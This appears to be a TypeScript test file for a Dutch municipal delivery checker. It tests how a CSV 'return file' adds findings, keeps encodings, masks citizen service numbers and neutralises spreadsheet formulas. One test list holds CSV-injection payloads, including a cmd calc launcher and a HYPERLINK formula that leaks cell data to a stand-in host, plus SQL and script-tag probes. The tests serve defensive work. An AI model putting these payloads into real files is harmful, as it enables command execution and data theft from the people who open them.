import { describe, expect, test } from 'vitest';
import { deliveryReader } from '../../../../domain/delivery/template/delivery.ts';
import { returnFile } from '../../../../domain/delivery/template/return-file.ts';

const utf8 = (text: string): Uint8Array => Buffer.from(text, 'utf8');

/** The return file of bytes that come in chunks of the given size. */
const returned = (
  bytes: Uint8Array,
  findings: readonly { line: number | null; column: number | null; code: string; message: string }[],
  chunkBytes = 7,
): Buffer => {
  const pieces: Uint8Array[] = [];
  const file = returnFile(findings, (piece) => pieces.push(piece));
  for (let at = 0; at < bytes.length; at += chunkBytes) file.push(bytes.slice(at, at + chunkBytes));
  file.end();
  return Buffer.concat(pieces);
};

/** The return file of what our own reader finds in a delivery. */
const checkAndReturn = (bytes: Uint8Array): Buffer => returned(bytes, read(bytes).problems, 1_000);

const read = (bytes: Uint8Array) => {
  const rows: { description: string; evidence: string; amount: string }[] = [];
  const reader = deliveryReader('investments', {
    row: ({ description, evidence, amount }) => void rows.push({ description, evidence, amount }),
  });
  reader.push(bytes);
  return { ...reader.end(), rows };
};

const finding = (line: number | null, code: string, message = 'Een zin.', column: number | null = null) => ({
  line,
  column,
  code,
  message,
});

const HEADING = 'partij;periode;artikel;omschrijving;bedrag;bewijs';
const investments = (...rows: readonly string[]): string => `${[HEADING, ...rows].join('\r\n')}\r\n`;

describe('the return file', () => {
  test('is the file itself with two columns, and each finding at its row', () => {
    const bytes = utf8('a;b\r\n1;2\r\n3;4\r\n');
    expect(returned(bytes, [finding(3, 'x_y', 'Hier hoort 5.', 2), finding(3, 'z')]).toString()).toBe(
      'a;b;bevinding_code;bevinding\r\n1;2;;\r\n3;4;z x_y;"Een zin. / Kolom 2: Hier hoort 5."\r\n',
    );
  });

  test.each([
    ['comma, LF, no final line end', 'a,b\n1,2\n3,4', 'a,b,bevinding_code,bevinding\n1,2,,\n3,4,x,"Een zin."'],
    ['tab, CR', 'a\tb\r1\t2\r3\t4\r', 'a\tb\tbevinding_code\tbevinding\r1\t2\t\t\r3\t4\tx\t"Een zin."\r'],
    [
      'mixed line ends and trailing empty rows',
      'a;b\n1;2\r\n3;4\r\n\r\n;\n',
      'a;b;bevinding_code;bevinding\n1;2;;\r\n3;4;x;"Een zin."\r\n\r\n;;;\n',
    ],
    [
      'quotes that were not needed',
      '"a";"b"\n"1";"2"\n"3";"4"\n',
      '"a";"b";bevinding_code;bevinding\n"1";"2";;\n"3";"4";x;"Een zin."\n',
    ],
    [
      'a row above the heading',
      'Kosten\na;b\n1;2\n3;4\n5;6\n',
      'Kosten\na;b;bevinding_code;bevinding\n1;2;x;"Een zin."\n3;4;;\n5;6;;\n',
    ],
    ['one column', 'a\n1\n3\n', 'a;bevinding_code;bevinding\n1;;\n3;x;"Een zin."\n'],
  ])('keeps %s', (_, file, expected) => {
    expect(returned(utf8(file), [finding(3, 'x')]).toString()).toBe(expected);
  });

  test('puts a finding inside a row of several lines behind that row', () => {
    const file = 'a;b;c;d\n1;"x\ny";3;4\n5;6;7;8\n9;9;9;9\n';
    expect(returned(utf8(file), [finding(3, 'x')]).toString()).toBe(
      'a;b;c;d;bevinding_code;bevinding\n1;"x\ny";3;4;x;"Een zin."\n5;6;7;8;;\n9;9;9;9;;\n',
    );
  });

  test('puts what is wrong with the whole file or its heading at the first row, and below an empty file', () => {
    const found = [finding(null, 'w'), finding(1, 'h')];
    expect(returned(utf8('a;b\n1;2\n3;4\n'), found).toString()).toBe(
      'a;b;bevinding_code;bevinding\n1;2;w h;"Hele bestand: Een zin. / Een zin."\n3;4;;\n',
    );
    expect(returned(utf8('a;b'), found).toString()).toBe(
      'a;b;bevinding_code;bevinding\r\n;;w h;"Hele bestand: Een zin. / Een zin."\r\n',
    );
  });

  test('keeps the bytes of every encoding', () => {
    const text = 'a;b\r\nzoë;é€\r\n';
    const added = text.replace('b\r', 'b;bevinding_code;bevinding\r').replace('€\r', '€;x;"één €"\r');
    const found = [finding(2, 'x', 'één €')];
    expect(returned(utf8(text), found)).toEqual(Buffer.from(added));
    expect(returned(utf8(`\ufeff${text}`), found)).toEqual(Buffer.from(`\ufeff${added}`));
    expect(returned(Buffer.from(text.replaceAll('€', '\x80'), 'latin1'), found)).toEqual(
      Buffer.from(added.replaceAll('€', '\x80'), 'latin1'),
    );
    const utf16 = Buffer.from(`\ufeff${text.repeat(3)}`, 'utf16le');
    expect(returned(utf16, []).toString('utf16le')).toMatch(/^\ufeffa;b;bevinding_code;bevinding\r\nzoë;é€;;\r\n/);
    expect(returned(Buffer.from(utf16).swap16(), []).swap16().toString('utf16le')).toBe(
      returned(utf16, []).toString('utf16le'),
    );
  });

  test('is the same however the file comes in', () => {
    const file = utf8(investments(...Array.from({ length: 50 }, (_, at) => `P;2025;"a;${at}";=o${at};-${at},5;é`)));
    const found = [finding(7, 'x'), finding(40, 'y')];
    const whole = returned(file, found, file.length);
    for (const size of [1, 2, 13, 100]) expect(returned(file, found, size)).toEqual(whole);
  });

  test('leaves a row with too few fields as short as it is', () => {
    expect(returned(utf8('a;b;c\n1;2;3\n4;5\n6;7;8\n'), [finding(3, 'too_few_fields')]).toString()).toContain(
      '\n4;5;too_few_fields;"Een zin."\n',
    );
  });

  test('quotes what the cell holds, in the encoding of the file', () => {
    const found = [finding(2, 'x', 'Hier staat "Škola ½ 表".'), finding(3, 'y', 'Hier staat "123456.78".')];
    const message = (bytes: Uint8Array, encoding: BufferEncoding) => {
      const file = returned(bytes, found, 3).toString(encoding);
      return /Hier staat ""(.*?)""/.exec(file)?.[1];
    };
    expect(message(utf8('a;b\né;2\n3;4\n'), 'utf8')).toBe('Škola ½ 表');
    expect(message(Buffer.from('\ufeffa;b\né;2\n3;4\n', 'utf16le'), 'utf16le')).toBe('Škola ½ 表');
    expect(message(Buffer.from('a;b\né;2\n3;4\n', 'latin1'), 'latin1')).toBe('\x8akola ½ ?');
    expect(message(utf8('a;b\n1;2\n3;4\n'), 'utf8')).toBe('Skola ? ?');
    expect(returned(utf8('a;b\n1;2\n3;4\n'), found).toString()).toContain('""123456.78""');
  });

  test('quotes in the encoding that only a later row shows', () => {
    const file = utf8(`a;b\n${'1;2\n'.repeat(20_000)}é;2\n`);
    expect(returned(file, [finding(20_002, 'x', 'Hier staat "é".')], 4_096).toString()).toContain(
      '\né;2;x;"Hier staat ""é""."',
    );
  });

  const LONG = 'x'.repeat(1_200_000);
  const inLong = (row: string, chunkBytes = 70_000, end = '\n') =>
    returned(
      utf8(['a;b;c', '1;2;3', row, '4;5;6', ''].join(end)),
      [finding(3, 'field_too_long')],
      chunkBytes,
    ).toString();

  test.each(['\n', '\r\n', '\r'])(
    'keeps a row that is too long to be read, with its finding, with line ends %j',
    (end) => {
      const [first, second, long, last, ...rest] = inLong(`p;${LONG};q`, 70_000, end).split(end);
      expect([first, second, last, rest]).toEqual(['a;b;c;bevinding_code;bevinding', '1;2;3;;', '4;5;6;;', ['']]);
      expect(long === `p;${LONG};q;field_too_long;"Een zin."`).toBe(true);
    },
  );

  test('keeps such a row at the end of a file, and in UTF-16', () => {
    const text = `a;b\n1;é\n2;${'é'.repeat(700_000)}`;
    const found = [finding(3, 'x')];
    const expected = `a;b;bevinding_code;bevinding\n1;é;;\n2;${'é'.repeat(700_000)};x;"Een zin."`;
    expect(returned(utf8(text), found, 99_991).toString() === expected).toBe(true);
    const utf16 = returned(Buffer.from(`\ufeff${text}`, 'utf16le'), found, 99_991).toString('utf16le');
    expect(utf16 === `\ufeff${expected}`).toBe(true);
  });

  test('makes the fields of such a row safe, and leaves its numbers', () => {
    const row = `-12,50;=1+1;"=2+2";"-3,50";"${LONG},=3+3${' '.repeat(40)}|  =4+4"; @a;${'y;'.repeat(20)}-1 234,50`;
    const expected = row
      .replace(';=1', ";'=1")
      .replace('"=2', '"\'=2')
      .replace(',=3', ",'=3")
      .replace('|  =4', "|'  =4")
      .replace('; @', ";' @");
    for (const chunkBytes of [65_536, 32_767, 1_000_000])
      expect(inLong(row, chunkBytes).split('\n')[2] === `${expected};field_too_long;"Een zin."`).toBe(true);
  });

  test('never repeats what could be a citizen service number', () => {
    const text = returned(utf8('a;b\n1;2\n'), [finding(2, 'x', 'Hier staat "123456782", of 123.456.782, of 12345.')]);
    expect(text.toString()).toContain('Hier staat ""[getal]"", of [getal], of 12345.');
  });
});

describe('a return file is safe to open in a spreadsheet', () => {
  const PAYLOADS = [
    '=1+1',
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://x.example?"&A1)',
    '@SUM(1+1)*cmd|A0',
    '+1+1',
    '-1+1',
    '\t=1+1',
    ' =1+1',
    '=1+1;=2+2',
    'tekst,=1+1',
    '"=1+1',
    "'=1+1",
    "''=1+1",
    'a\n=1+1',
    '＝1+1',
    '-',
    '=',
    'Ω≈ç√∫˜µ≤≥÷',
    '🏳️‍🌈',
    'null',
    "Robert'); DROP TABLE Students;--",
    '<script>alert(1)</script>',
    '{{7*7}}',
    '1E400',
    '表ポあA鷗',
  ];
  const quoted = (text: string): string => `"${text.replaceAll('"', '""')}"`;
  const file = utf8(
    investments(
      ...PAYLOADS.map((payload) => `MUN;2025-K1;artikel 5;${quoted(payload)};12,50;${quoted(payload)}`),
      `SLUITREGEL;${PAYLOADS.length};${(PAYLOADS.length * 12.5).toFixed(2).replace('.', ',')};;;`,
    ),
  );

  test('no cell of it starts a formula, whichever delimiter cuts it', () => {
    const text = checkAndReturn(file).toString();
    const cells = text.split(/[;,|\t\r\n]/).map((cell) => cell.replace(/^[" ]+/, ''));
    expect(cells.filter((cell) => /^[=+\-@＝]/.test(cell) && !/^[-+][\d.,]+$/.test(cell))).toEqual([]);
  });

  test('in and out and in again every text is what it was', () => {
    const first = read(file);
    const second = read(checkAndReturn(file));
    expect(first.problems).toEqual([]);
    expect(second.problems).toEqual([]);
    expect(second.rows).toEqual(first.rows);
    expect(first.rows.map(({ evidence }) => evidence)).toEqual(PAYLOADS.map((payload) => payload.trim()));
  });

  test('given back twice it is guarded once', () => {
    const once = checkAndReturn(file);
    expect(checkAndReturn(once).toString()).toBe(once.toString());
  });

  test('negative amounts stay numbers, with the bytes that they had', () => {
    const amounts = [
      '-12,50',
      '12,50-',
      '(12,50)',
      '- 100,00',
      '-1 234,50',
      "-1'234,50",
      '-1\u00a0234,50',
      '-1\u202f234,50',
    ];
    const costs = investments(...amounts.map((amount) => `MUN;2025;a;o;${amount};b`));
    const lines = checkAndReturn(utf8(costs)).toString().split('\r\n');
    expect(lines.slice(1, -1).map((line) => line.split(';')[4])).toEqual(amounts);
  });
});

describe('a return file that comes back', () => {
  const wrong = utf8(
    investments('MUN;2025-Q1;artikel 5;huur;100,00;b1', 'MUN;2025-K1;artikel 5;uren;1;b2', 'SLUITREGEL;2;101,00;;;'),
  );

  test('passes once it is corrected', () => {
    const back = checkAndReturn(wrong).toString();
    expect(back).toContain('period_is_malformed');
    const corrected = back.replace('2025-Q1', '2025-K1');
    expect(read(utf8(corrected)).problems).toEqual([]);
    expect(read(utf8(corrected)).rows).toHaveLength(2);
  });

  test('is refused for the same as before while it is not', () => {
    const codes = (bytes: Uint8Array) => read(bytes).problems.map(({ code, line }) => [code, line]);
    expect(codes(checkAndReturn(wrong))).toEqual(codes(wrong));
  });

  test('has its columns written anew, not twice', () => {
    const once = checkAndReturn(wrong);
    expect(checkAndReturn(once).toString()).toBe(once.toString());
  });

  test('may not bring personal data in the added columns', () => {
    const back = checkAndReturn(wrong)
      .toString()
      .replace('2025-Q1', '2025-K1')
      .replace(/"Kolom[^"]*(""[^"]*)*"/, 'zie mevrouw De Vries');
    expect(read(utf8(back)).problems.map(({ code }) => code)).toEqual(['personal_data_is_refused']);
  });
});
